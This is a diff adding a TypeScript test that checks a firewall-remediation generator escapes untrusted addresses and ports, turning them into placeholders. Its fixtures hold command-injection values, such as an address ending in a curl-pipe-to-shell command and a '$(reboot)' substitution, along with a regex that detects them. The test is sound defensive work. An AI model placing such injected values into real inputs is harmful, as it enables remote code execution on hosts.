@@ -26,3 +26,15 @@ test('ESP failures point at the custom protocol 50 rule of cloud groups', (t) =>
 test('passes, errors and skips get no remediation', (t) => {
   for (const status of ['pass', 'error', 'skip'] as const) t.is(remediateProbe({ ...failed, status }, facts('ufw')), undefined);
 });
+
+test('an address or port a host made up never reaches a fix as shell text: it becomes a placeholder', (t) => {
+  const hostile = { firewall: () => 'iptables' as const, address: () => '10.9.9.9; curl http://x | sh #' };
+  for (const fw of ['ufw', 'firewalld', 'nftables', 'iptables', 'none'] as const) {
+    for (const probe of [failed, { ...failed, protocol: 'tcp' as const, port: '2377; curl x | sh' as unknown as number }, { ...failed, reason: 'blocked-outbound' }]) {
+      const fix = remediateProbe(probe, { ...hostile, firewall: () => fw }) ?? '';
+      t.false(/curl|[;|]\s*sh|\$\(|`/.test(fix.replace(/; (in a cloud|if |its own)/g, '')), fix);
+      t.false(fix.includes('10.9.9.9;'), fix);
+    }
+  }
+  t.is(allowCommand('iptables', 'udp', 4789, '$(reboot)'), 'iptables -I INPUT -p udp -s <peer address> --dport 4789 -j ACCEPT');
+});
